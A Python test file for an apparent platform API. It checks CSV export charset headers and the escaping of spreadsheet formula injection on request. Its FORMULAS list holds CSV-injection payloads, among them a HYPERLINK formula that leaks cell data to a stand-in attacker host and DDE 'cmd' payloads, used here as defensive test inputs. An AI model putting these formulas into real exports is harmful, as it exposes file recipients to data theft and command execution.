"""CSV answers: the content type says its charset once, and text an org's users wrote that
a spreadsheet would run as a formula (=, +, -, @, or a tab or CR before one; OWASP "CSV
Injection") is neutralised on request (``Prefer: csv-formulas=escape``), on table reads
and function results alike. Numbers stay numbers. (The studio's download asks for it:
tests/e2e/test_studio.py::test_csv_download_escapes_formulas.)"""

from __future__ import annotations

import csv
import io

from litestar.testing import AsyncTestClient

from orgbase.core.csv_text import FORMULA_STARTS
from orgbase.core.settings import Settings
from orgbase.platform.app import OrgbaseApp
from tests.support.data import make_platform_admin
from tests.support.http import bearer, member_tokens, new_user

Client = AsyncTestClient[OrgbaseApp]

FORMULAS = [
    '=HYPERLINK("http://attacker.test/?"&A1,"open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
HARMLESS = ["plain text", "a = b", "1-2"]
CSV_TYPE = "text/csv; charset=utf-8"


def parsed(body: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(body)))


async def _org_with_formulas(client: Client) -> dict[str, str]:
    """An org whose member wrote formula-looking titles (and a negative number)."""
    _, tokens = await member_tokens(client, ("member",))
    member = bearer(tokens["member"])
    rows = [{"title": t, "points": -5} for t in FORMULAS + HARMLESS]
    inserted = await client.post("/v1/db/tasks", headers=member, json=rows)
    assert inserted.status_code == 201, inserted.text
    return bearer(tokens["owner"])


async def test_csv_says_its_charset_once(client: Client, settings: Settings) -> None:
    owner = await _org_with_formulas(client)
    read = await client.get("/v1/db/tasks", headers={**owner, "Accept": "text/csv"})
    assert read.status_code == 200, read.text
    assert read.headers["content-type"] == CSV_TYPE
    rpc = await client.get(
        "/v1/db/rpc/tasks_over?min_points=-10", headers={**owner, "Accept": "text/csv"}
    )
    assert rpc.headers["content-type"] == CSV_TYPE
    operator, tokens = await new_user(client)
    await make_platform_admin(settings, operator["id"])
    usage = await client.get(
        "/v1/platform/usage?format=csv", headers=bearer(tokens["access_token"])
    )
    assert usage.status_code == 200, usage.text
    assert usage.headers["content-type"] == CSV_TYPE


async def test_formulas_are_neutralised_when_asked(client: Client) -> None:
    owner = await _org_with_formulas(client)
    asking = {**owner, "Accept": "text/csv", "Prefer": "csv-formulas=escape"}
    for path in ("/v1/db/tasks?order=id", "/v1/db/rpc/tasks_over?min_points=-10&order=id"):
        answer = await client.get(path, headers=asking)
        assert answer.status_code == 200, answer.text
        assert "csv-formulas=escape" in answer.headers["preference-applied"]
        rows = parsed(answer.text)
        titles = [row["title"] for row in rows]
        assert titles == ["'" + t for t in FORMULAS] + HARMLESS, path
        # No text cell begins with a formula character any more; numbers stay numbers.
        assert not any(t.startswith(FORMULA_STARTS) for t in titles)
        assert {row["points"] for row in rows} == {"-5"}


async def test_without_the_preference_csv_is_as_stored(client: Client) -> None:
    """PostgREST's answer, for clients that expect the data verbatim."""
    owner = await _org_with_formulas(client)
    answer = await client.get("/v1/db/tasks?order=id", headers={**owner, "Accept": "text/csv"})
    assert [row["title"] for row in parsed(answer.text)] == FORMULAS + HARMLESS
